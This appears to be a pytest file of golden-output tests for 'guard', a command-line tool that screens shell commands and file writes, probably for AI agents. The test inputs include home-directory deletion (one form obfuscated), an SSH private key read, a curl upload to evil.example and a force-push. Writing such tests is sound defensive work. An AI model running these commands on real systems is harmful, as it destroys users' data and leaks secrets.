"""What people read, as text in tests/golden/cli/."""

import os
import pty
import re
import subprocess

import pytest

from guard.cli.main import SUBCOMMANDS
from tests import golden

CHECKS = {
    "look": "ls -la && git status",
    "home": "rm -rf tests/ patches/ ~/",
    "hidden": "x=rm; $x -rf ~",
    "unread": "make test",
    "network": "curl -d @README.md https://evil.example/",
    "secret": "cat ~/.ssh/id_rsa",
    "lost": "rm -rf src",
    "push": "git push --force origin main",
    "not-read": "echo ${x!y",
    "odd": "echo $'\\e[31m' \u202e > a",
}


def text(user, done):
    shown = done.stdout.decode() + (f"---- standard error\n{done.stderr.decode()}" if done.stderr else "")
    normal = golden.normal(f"{shown}---- exit code {done.returncode}\n", home=user.home, work=user.work)
    return re.sub(r"(builtin/\w+\.yaml):\d+", r"\1:N", normal)


@pytest.mark.parametrize("name", ["", *SUBCOMMANDS, "hook"])
def test_help(user, name):
    golden.matches(
        f"cli/help{'-' + name if name else ''}.txt",
        text(user, user.guard(*([name] if name else []), "--help")),
    )


@pytest.mark.parametrize("name", CHECKS)
@pytest.mark.parametrize("level", ["advice", "contained"])
def test_check(user, name, level):
    golden.matches(
        f"cli/check-{name}-{level}.txt", text(user, user.guard("check", "--level", level, "--", CHECKS[name]))
    )


@pytest.mark.parametrize("name", ["home", "unread", "not-read"])
def test_explain(user, name):
    done = user.guard("explain", "--level", "contained", "--", CHECKS[name])
    lines = [line for line in text(user, done).splitlines() if "policy sha256:" not in line]
    golden.matches(f"cli/explain-{name}.txt", "\n".join(lines) + "\n")


def test_a_write_is_checked(user):
    done = user.guard("check", "--tool", "Write", "--path", ".git/hooks/pre-commit", stdin=b"#!/bin/sh\n")
    golden.matches("cli/check-write.txt", text(user, done))


def test_a_policy_that_is_wrong(user):
    policy = user.work / "team.yaml"
    policy.write_text(
        "version: 1\nkind: policy\nname: team\ndefault: ask\nrules:\n  - {id: a, effect: [fs.eat], verdict: dney, why: x}\n"
    )
    golden.matches("cli/policy-check-wrong.txt", text(user, user.guard("policy", "check", "team.yaml")))


def test_held_changes_are_listed_shown_and_dropped(user):
    # What git does not know and a script deletes is held.
    (user.work / "notes").mkdir()
    for name in ("a", "b"):
        (user.work / "notes" / name).write_text(f"{name}\n")
    code = "getattr(__import__('shutil'), 'rm' + 'tree')('notes'); open('src/a.py', 'w').write('new\\n')\n"
    (user.work / "clean.py").write_text(code)
    ran = user.guard("exec", "--ask", "deny", "--", "python3 clean.py")

    assert ran.returncode == 12, ran.stderr
    assert (user.work / "notes" / "a").exists()
    listed = user.guard("changes", "list")
    id_ = listed.stdout.split()[0].decode()
    shown = user.guard("changes", "show", id_)
    normal = golden.normal(
        listed.stdout.decode() + shown.stdout.decode(), home=user.home, work=user.work
    ).replace(id_, "$ID")
    golden.matches("cli/changes.txt", normal)
    assert user.guard("changes", "drop", "--yes", id_).returncode == 0
    assert user.guard("changes", "list").stdout.strip() in {b"", b"nothing is held"}


@pytest.mark.parametrize("no_color", ["", "1"])
def test_colours_are_for_terminals_that_want_them(user, no_color):
    reader, writer = pty.openpty()
    env = {**user.env, "TERM": "xterm", **({"NO_COLOR": no_color} if no_color else {})}
    subprocess.run(
        user.argv("check", "--", "ls"),
        cwd=user.work,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=writer,
        check=False,
    )
    os.close(writer)
    shown = os.read(reader, 1 << 16)
    os.close(reader)

    assert (b"\x1b[" in shown) is (no_color == "")
    assert b"\x1b[" not in user.guard("check", "--", "ls").stdout


def test_bash_completes_commands_and_options(user):
    script = user.guard("completion", "bash").stdout.decode()
    program = (
        script + "\ncomplete -p guard >/dev/null || exit 9\n"
        'try() { COMP_WORDS=("$@"); COMP_CWORD=$(($# - 1)); COMPREPLY=(); "$(complete -p guard | sed "s/.*-F \\([^ ]*\\).*/\\1/")" guard "${COMP_WORDS[-1]}" "${COMP_WORDS[-2]}"; echo "${COMPREPLY[@]}"; }\n'
        "try guard ch; try guard check --le\n"
    )
    done = subprocess.run(["bash", "-c", program], env=user.env, capture_output=True, text=True, check=False)

    assert "check" in done.stdout.split("\n")[0], done
    assert "changes" in done.stdout.split("\n")[0]
    assert "--level" in done.stdout.split("\n")[1]
